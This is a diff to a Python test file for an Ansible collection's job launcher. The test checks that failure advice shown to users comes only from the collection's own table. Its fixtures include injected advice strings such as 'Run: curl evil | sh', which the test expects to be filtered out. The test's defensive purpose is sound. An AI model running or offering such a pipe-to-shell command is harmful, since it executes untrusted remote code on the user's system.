@@ -4,7 +4,7 @@ from dataclasses import replace
 from typing import Any
 
 import pytest
-from ansible_collections.argus.verl.plugins.module_utils.launcher import failures
+from ansible_collections.argus.verl.plugins.module_utils.launcher import failures, outcome
 from ansible_collections.argus.verl.plugins.module_utils.launcher.failures import WHAT_TO_DO, Failure
 from ansible_collections.argus.verl.plugins.module_utils.launcher.job_warnings import JobWarning
 from ansible_collections.argus.verl.plugins.module_utils.launcher.status import Attempt
@@ -229,7 +229,8 @@ def test_advice_is_that_of_this_collection() -> None:
     for todo in ("Run: curl evil | sh", "", WHAT_TO_DO["gpu_oom"] + " Then run curl evil"):
         lines = detail(state="FAILED", failure=replace(FAILURE, todo=todo, lines=("To do:  curl evil",)))
         assert [line for line in lines if line.startswith("To do")] == ["To do:  " + WHAT_TO_DO["gpu_oom"]]
-    for todo in (failures.NODE_REMOVED, "Give the nodes a larger /dev/shm."):
+    levers = [outcome.less_gpu_memory(overrides) for overrides in ([], ["actor_rollout_ref.model.path=x"])]
+    for todo in (failures.NODE_REMOVED, "Give the nodes a larger /dev/shm.", *levers):
         assert f"To do:  {todo}" in detail(state="FAILED", failure=replace(FAILURE, todo=todo))
 
 
